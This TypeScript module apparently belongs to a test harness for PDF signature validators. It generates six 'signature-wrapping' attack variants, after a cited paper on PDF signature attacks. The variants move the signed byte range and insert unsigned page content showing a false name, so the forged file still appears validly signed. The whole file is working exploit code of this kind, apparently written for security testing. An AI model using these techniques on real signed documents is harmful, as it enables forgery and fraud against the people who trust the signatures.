import { contentsFor, FALSE_NAME, OBJECTS, original } from './attack-tools.js';
import type { AttackTools, AttackVariant } from './attack-tools.js';
import { writeSection } from './pdf-file.js';
import { entriesOf } from './pdf-signature.js';
import type { SignatureOptions, SignedPdf } from './pdf-signature.js';
import { joined, reference } from './pdf-value.js';
import type { PdfValue } from './pdf-value.js';

/** Another page tree, and again what the signed update holds behind Contents: that will not be where the signed cross-reference section says. */
function evilObjects(signed: SignedPdf): Map<number, PdfValue> {
  const [page, contents] = [signed.size, signed.size + 1];
  const moved = [...signed.objects].filter(([number]) => (signed.offsets.get(number) ?? 0) > signed.signature.contents[1]);
  return new Map<number, PdfValue>([
    ...moved,
    [OBJECTS.pages, { Type: '/Pages', Kids: [reference(page)], Count: 1 }],
    [page, { ...entriesOf(signed, OBJECTS.page), Contents: reference(contents) }],
    [contents, contentsFor(FALSE_NAME)],
  ]);
}

interface Wrapping {
  /** The attacker's cross-reference section stands where the signed end says; otherwise there is none, and readers must search. */
  xref?: boolean;
  /** The second range stays where it is: what is wrapped fits into the padding. */
  inPadding?: boolean;
  /** The dictionary is another object, wholly in the gap. */
  otherDictionary?: boolean;
  signature?: SignatureOptions;
}

/** Between Contents and the second range goes what is not signed; the second range goes behind it and says what it said. */
const wrapped = ({ xref = true, inPadding = false, otherDictionary = false, signature: options = {} }: Wrapping) => async (tools: AttackTools): Promise<Uint8Array<ArrayBuffer>> => {
  const signed = await original(tools, { byteRangeLast: true, size: 8192, form: 'table', ...options }, { xref: 'table' });
  const { object, contents: [start, end], byteRange: [a, b, c, d] } = signed.signature;
  const token = Array.from(signed.bytes.subarray(start, end), (byte) => String.fromCharCode(byte)).join('');
  // A few zeros stay, for a CMS that ends with some of its own. The rest of the padding is room.
  const short = `${token.slice(1, -1).replace(/(?:00)+$/, '')}${'00'.repeat(8)}`.slice(0, token.length - 2);
  const build = (moved: number): Uint8Array<ArrayBuffer> => {
    const range = `[${a} ${b} ${String(moved).padEnd(10)} ${d}]`;
    const front = joined([signed.bytes.subarray(0, start), `<${short}> /ByteRange ${range} >>\nendobj\n`]);
    const set = evilObjects(signed);
    if (otherDictionary) set.set(object, { ...entriesOf(signed, object), Contents: `<${short}>`, ByteRange: range });
    const listed = otherDictionary ? new Map<number, number>() : new Map([[object, signed.offsets.get(object)!]]);
    const before = { ...signed, ...(signed.previous !== undefined && { startxref: signed.previous }) };
    const { written } = writeSection(before, { set, listed, form: 'table', at: front.length, omit: ['startxref', 'eof', ...(xref ? [] : ['xref', 'trailer'] as const)], ...(xref && { xrefAt: signed.startxref }) });
    return joined([front, written]);
  };
  const moved = inPadding ? c : build(0).length;
  const made = build(moved);
  if (made.length > moved) throw new RangeError('What is wrapped does not fit into the padding');
  return joined([made, ' '.repeat(moved - made.length), signed.bytes.subarray(c, c + d)]);
};

/** What is inserted behind Contents stands in the gap of a second ByteRange. */
const inserted = (text: (range: string) => string) => async (tools: AttackTools): Promise<Uint8Array<ArrayBuffer>> => {
  const signed = await original(tools, { size: 8192 });
  const { contents: [, end], byteRange: [a, b, c, d] } = signed.signature;
  const piece = (moved: number) => text(`[${a} ${b} ${String(moved).padEnd(10)} ${d}]`);
  return joined([signed.bytes.subarray(0, end), piece(end + piece(0).length), signed.bytes.subarray(c)]);
};

const of = (variant: string, make: AttackVariant['make']): AttackVariant => ({ name: 'signature-wrapping', variant, make });

/** "1 Trillion Dollar Refund" section 4.3: the ranges hold what was signed, at another place; or the gap holds more than Contents. */
export const wrappings: readonly AttackVariant[] = [
  of('range-moved-xref-at-signed-offset', wrapped({})),
  of('range-moved-without-xref', wrapped({ xref: false })),
  of('range-moved-other-dictionary', wrapped({ otherDictionary: true })),
  of('range-moved-certified', wrapped({ signature: { docMdp: 1 } })),
  of('wrapped-in-padding', wrapped({ inPadding: true, xref: false })),
  of('two-byte-ranges', inserted((range) => ` /ByteRange ${range} /Name (Wrapped)`)),
];
